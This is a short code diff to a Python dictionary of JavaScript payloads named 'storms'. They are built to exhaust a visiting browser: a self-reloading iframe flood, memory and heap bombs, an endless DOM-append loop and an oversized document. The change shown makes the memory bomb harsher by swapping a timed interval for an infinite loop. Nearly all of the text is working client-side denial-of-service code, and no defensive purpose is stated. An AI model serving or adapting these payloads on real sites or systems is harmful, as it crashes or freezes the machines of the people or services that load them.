@@ -22,7 +22,7 @@ STORMS = {
     "frame-storm": (
         "for(var i=0;i<30;i++){const f=document.createElement('iframe');f.src='/frame-storm?'+Math.random();document.body.append(f)}"
     ),
-    "memory-bomb": f"const n=64<<20,all=[];setInterval(()=>{{{_FILL}all.push(b)}},20)",
+    "memory-bomb": f"const n=64<<20,all=[];for(;;){{{_FILL}all.push(b)}}",
     "heap-bomb": "const all=[];for(;;)all.push(new Array(1e6).fill({}))",
     "dom-bomb": "for(;;){const d=document.createElement('div');d.innerHTML='<b>政务</b>'.repeat(2e4);document.body.append(d)}",
     "big-document": "document.body.append('政务公开'.repeat(9e6))",
